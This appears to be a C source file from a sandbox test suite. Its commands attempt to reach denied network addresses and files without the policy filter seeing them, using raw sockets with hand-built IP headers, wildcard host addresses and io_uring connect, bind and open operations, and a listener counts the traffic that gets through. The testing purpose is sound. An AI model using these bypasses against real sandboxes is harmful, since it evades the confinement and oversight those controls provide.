/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The network. A rule on @net-connect reads the address of connect, sendto
 * and sendmsg; these commands reach a denied address without giving the
 * supervisor that address to read: a raw socket writing its own IP header
 * (the address the policy sees is only the route), the wildcard addresses
 * that mean "this host", and io_uring, which opens and connects with no
 * system call for the filter to see.
 *
 * listen-count runs outside the sandbox: the listener whose count of
 * accepted connections (or datagrams) is the evidence.
 */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
#include <linux/io_uring.h>

#include "attack.h"

/* ADDR PORT as a sockaddr of its family; 0 when ADDR is neither. */
socklen_t attack_addr(const char *addr, const char *port, struct sockaddr_storage *ss)
{
	struct sockaddr_in *in = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;

	memset(ss, 0, sizeof(*ss));
	if (inet_pton(AF_INET, addr, &in->sin_addr) == 1) {
		in->sin_family = AF_INET;
		in->sin_port = htons((uint16_t)parse_long(port));
		return sizeof(*in);
	}
	if (inet_pton(AF_INET6, addr, &in6->sin6_addr) == 1) {
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons((uint16_t)parse_long(port));
		return sizeof(*in6);
	}
	return 0;
}

int attack_tcp_socket(const char *addr, const char *port, struct sockaddr_storage *ss,
		      socklen_t *len)
{
	*len = attack_addr(addr, port, ss);
	if (!*len)
		return -2;
	return socket(ss->ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

static void write_count(const char *file, long n)
{
	char tmp[4096];
	FILE *f;

	snprintf(tmp, sizeof(tmp), "%s.tmp", file);
	f = fopen(tmp, "we");
	if (!f)
		return;
	fprintf(f, "%ld\n", n);
	fclose(f);
	rename(tmp, file);
}

static int listen_socket(const char *proto, const char *addr, const char *port, char *file)
{
	struct sockaddr_storage ss;
	socklen_t len = attack_addr(addr, port, &ss);
	int type = strcmp(proto, "udp") == 0 ? SOCK_DGRAM : SOCK_STREAM, one = 1, fd;
	char portfile[4096];

	if (len == 0)
		return -EINVAL;
	fd = socket(ss.ss_family, type | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -errno;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&ss, len) < 0 || (type == SOCK_STREAM && listen(fd, 64) < 0))
		return -errno;
	getsockname(fd, (struct sockaddr *)&ss, &len);
	snprintf(portfile, sizeof(portfile), "%s.port", file);
	write_count(portfile,
		    ntohs(ss.ss_family == AF_INET ? ((struct sockaddr_in *)&ss)->sin_port :
						    ((struct sockaddr_in6 *)&ss)->sin6_port));
	return fd;
}

/* A unix listener that never accepts, with a backlog of 0: the second connect waits. */
static int listen_unix_stuck(const char *path, long seconds, const char *file)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	unlink(path);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, 0) < 0)
		return setup_failed("unix-listen", errno);
	write_count(file, 0);
	pause_ms(seconds * 1000);
	return 0;
}

/* A flush (see network.sh) says so in its first bytes; the attack's traffic does not. */
static bool is_flush(const char *buf, ssize_t n)
{
	return n >= 5 && memcmp(buf, "FLUSH", 5) == 0;
}

/*
 * One accepted connection: a flush sends its word at once, the attack's sends
 * nothing and ends (EOF wakes the poll). The wait is long: on a loaded
 * machine a flush's word came 200 ms late and was counted as the attack.
 */
static bool accept_one(int fd)
{
	struct pollfd p = { .events = POLLIN };
	char buf[16];
	ssize_t n = -1;

	p.fd = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
	if (p.fd < 0)
		return false;
	if (poll(&p, 1, 5000) > 0)
		n = recv(p.fd, buf, sizeof(buf), 0);
	close(p.fd);
	return is_flush(buf, n);
}

/*
 * listen-count tcp|udp|unix ADDR PORT SECONDS FILE: FILE holds the number
 * of connections (or datagrams) that were not flushes, FILE.flush that of
 * flushes, FILE.port the port. unix: a listener that never accepts.
 */
static int cmd_listen_count(int argc, char **argv)
{
	char flushfile[4096];
	long count = 0, flushes = 0;
	time_t end;
	int fd;

	if (argc != 5)
		return 2;
	if (strcmp(argv[0], "unix") == 0)
		return listen_unix_stuck(argv[1], parse_long(argv[3]), argv[4]);
	fd = listen_socket(argv[0], argv[1], argv[2], argv[4]);
	if (fd < 0)
		return setup_failed("listen", -fd);
	snprintf(flushfile, sizeof(flushfile), "%s.flush", argv[4]);
	write_count(flushfile, 0);
	write_count(argv[4], 0);
	end = time(NULL) + parse_long(argv[3]);
	while (time(NULL) < end) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		char buf[2048];
		bool flush;

		if (poll(&p, 1, 100) <= 0)
			continue;
		if (strcmp(argv[0], "udp") == 0)
			flush = is_flush(buf, recv(fd, buf, sizeof(buf), 0));
		else
			flush = accept_one(fd);
		if (flush)
			write_count(flushfile, ++flushes);
		else
			write_count(argv[4], ++count);
	}
	return 0;
}

/* connect ADDR PORT [DATA]: a TCP connection (ADDR may be 0.0.0.0, ::, ::ffff:127.0.0.1...). */
static int cmd_connect(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;
	int fd;

	if (argc < 2 || argc > 3 || !(len = attack_addr(argv[0], argv[1], &ss)))
		return 2;
	fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return setup_failed("socket", errno);
	if (connect(fd, (struct sockaddr *)&ss, len) < 0)
		return blocked(errno);
	if (argc == 3 && send(fd, argv[2], strlen(argv[2]), MSG_NOSIGNAL) < 0)
		return setup_failed("send", errno);
	result("CONNECTED %s port %s", argv[0], argv[1]);
	return 0;
}

/* udp-send ADDR PORT [DATA]: the ordinary way, which the policy sees. */
static int cmd_udp_send(int argc, char **argv)
{
	struct sockaddr_storage ss;
	const char *data = argc == 3 ? argv[2] : "x";
	socklen_t len;
	int fd;

	if (argc < 2 || argc > 3 || !(len = attack_addr(argv[0], argv[1], &ss)))
		return 2;
	fd = socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return setup_failed("socket", errno);
	if (sendto(fd, data, strlen(data), 0, (struct sockaddr *)&ss, len) < 0)
		return blocked(errno);
	result("SENT udp to %s port %s", argv[0], argv[1]);
	return 0;
}

static uint16_t ip_checksum(const void *data, size_t len)
{
	const uint16_t *p = data;
	uint32_t sum = 0;

	for (; len > 1; len -= 2)
		sum += *p++;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* An IPv4 + UDP datagram to dst:port, with a payload of one byte. */
static size_t build_udp(char *pkt, in_addr_t dst, uint16_t port)
{
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(pkt + sizeof(*ip));
	size_t len = sizeof(*ip) + sizeof(*udp) + 1;

	memset(pkt, 0, len);
	*ip = (struct iphdr){ .ihl = 5, .version = 4, .tot_len = htons((uint16_t)len), .ttl = 64,
			      .protocol = IPPROTO_UDP, .saddr = htonl(INADDR_LOOPBACK), .daddr = dst };
	ip->check = ip_checksum(ip, sizeof(*ip));
	*udp = (struct udphdr){ .source = htons(40000), .dest = htons(port),
				.len = htons((uint16_t)(sizeof(*udp) + 1)) };
	pkt[len - 1] = 'r';
	return len;
}

/* raw-udp VIA DST PORT: IP_HDRINCL; the policy sees VIA, the packet goes to DST:PORT. */
static int cmd_raw_udp(int argc, char **argv)
{
	struct sockaddr_in via = { .sin_family = AF_INET };
	in_addr_t dst;
	char pkt[64];
	size_t len;
	int fd;

	if (argc != 3 || inet_pton(AF_INET, argv[0], &via.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[1], &dst) != 1)
		return 2;
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0)
		return setup_failed("raw-socket", errno);
	len = build_udp(pkt, dst, (uint16_t)parse_long(argv[2]));
	if (sendto(fd, pkt, len, 0, (struct sockaddr *)&via, sizeof(via)) < 0)
		return blocked(errno);
	result("SENT raw to %s (policy saw %s)", argv[1], argv[0]);
	return 0;
}

/* ---- io_uring, by raw system calls ---- */

int uring_setup(struct uring *u)
{
	struct io_uring_params p = { 0 };
	size_t sq_size, cq_size;
	char *sq, *cq;

	u->fd = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (u->fd < 0)
		return -errno;
	sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned int);
	cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	sq = mmap(NULL, sq_size > cq_size ? sq_size : cq_size, PROT_READ | PROT_WRITE, MAP_SHARED,
		  u->fd, IORING_OFF_SQ_RING);
	cq = sq; /* IORING_FEAT_SINGLE_MMAP (5.4+): one mapping holds both rings */
	u->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED, u->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || u->sqes == MAP_FAILED || !(p.features & IORING_FEAT_SINGLE_MMAP))
		return -ENOMEM;
	u->sq_tail = (unsigned int *)(sq + p.sq_off.tail);
	u->sq_mask = (unsigned int *)(sq + p.sq_off.ring_mask);
	u->sq_array = (unsigned int *)(sq + p.sq_off.array);
	u->cq_head = (unsigned int *)(cq + p.cq_off.head);
	u->cq_tail = (unsigned int *)(cq + p.cq_off.tail);
	u->cq_mask = (unsigned int *)(cq + p.cq_off.ring_mask);
	u->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

int uring_run(struct uring *u, const struct io_uring_sqe *sqe)
{
	unsigned int tail = *u->sq_tail, idx = tail & *u->sq_mask, head;
	int res;

	u->sqes[idx] = *sqe;
	u->sq_array[idx] = idx;
	__atomic_store_n(u->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, u->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	head = *u->cq_head;
	if (head == __atomic_load_n(u->cq_tail, __ATOMIC_ACQUIRE))
		return -EAGAIN;
	res = u->cqes[head & *u->cq_mask].res;
	__atomic_store_n(u->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

/* uring-open PATH: IORING_OP_OPENAT of the denied PATH, then an ordinary read. */
static int cmd_uring_open(int argc, char **argv)
{
	struct io_uring_sqe sqe = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD };
	struct uring u;
	int r;

	if (argc != 1)
		return 2;
	r = uring_setup(&u);
	if (r < 0)
		return setup_failed("io_uring", -r);
	sqe.addr = (uint64_t)(uintptr_t)argv[0];
	sqe.open_flags = O_RDONLY | O_CLOEXEC;
	r = uring_run(&u, &sqe);
	if (r < 0)
		return blocked(-r);
	return leak_fd(r);
}

/* IORING_OP_BIND came with Linux 6.11, after the headers Debian 12 has. */
#define ATTACK_IORING_OP_BIND 56

/*
 * A TCP socket's connect or bind to ADDR PORT by io_uring's opcode op:
 * true when it succeeded; else the outcome is printed (BLOCKED, SETUP)
 * and *ret is the exit status.
 */
static bool uring_socket_op(uint8_t op, int argc, char **argv, int *ret)
{
	struct io_uring_sqe sqe = { .opcode = op };
	struct sockaddr_storage ss;
	struct uring u;
	socklen_t len;
	int r, fd;

	*ret = 2;
	if (argc != 2 || (fd = attack_tcp_socket(argv[0], argv[1], &ss, &len)) == -2)
		return false;
	if (fd < 0) {
		*ret = setup_failed("socket", errno);
		return false;
	}
	r = uring_setup(&u);
	if (r < 0) {
		*ret = setup_failed("io_uring", -r);
		return false;
	}
	sqe.fd = fd;
	sqe.addr = (uint64_t)(uintptr_t)&ss;
	sqe.off = len;
	r = uring_run(&u, &sqe);
	if (r < 0) {
		*ret = blocked(-r);
		return false;
	}
	*ret = 0;
	return true;
}

/* uring-connect ADDR PORT: IORING_OP_CONNECT to the denied address. */
static int cmd_uring_connect(int argc, char **argv)
{
	int r;

	if (uring_socket_op(IORING_OP_CONNECT, argc, argv, &r))
		result("CONNECTED %s port %s through io_uring", argv[0], argv[1]);
	return r;
}

/* uring-bind ADDR PORT: IORING_OP_BIND (EINVAL before Linux 6.11: an opcode it lacks). */
static int cmd_uring_bind(int argc, char **argv)
{
	int r;

	if (uring_socket_op(ATTACK_IORING_OP_BIND, argc, argv, &r))
		result("BOUND %s port %s through io_uring", argv[0], argv[1]);
	return r;
}

const struct attack_cmd attack_net_cmds[] = {
	{ "listen-count", "tcp|udp|unix ADDR PORT SECS FILE  (outside) count what arrives",
	  cmd_listen_count },
	{ "connect", "ADDR PORT [DATA]   TCP connect", cmd_connect },
	{ "udp-send", "ADDR PORT [DATA]  UDP sendto", cmd_udp_send },
	{ "raw-udp", "VIA DST PORT       IP_HDRINCL datagram to DST, routed via VIA", cmd_raw_udp },
	{ "uring-open", "PATH            IORING_OP_OPENAT + read", cmd_uring_open },
	{ "uring-connect", "ADDR PORT    IORING_OP_CONNECT", cmd_uring_connect },
	{ "uring-bind", "ADDR PORT       IORING_OP_BIND", cmd_uring_bind },
	{ NULL, NULL, NULL },
};
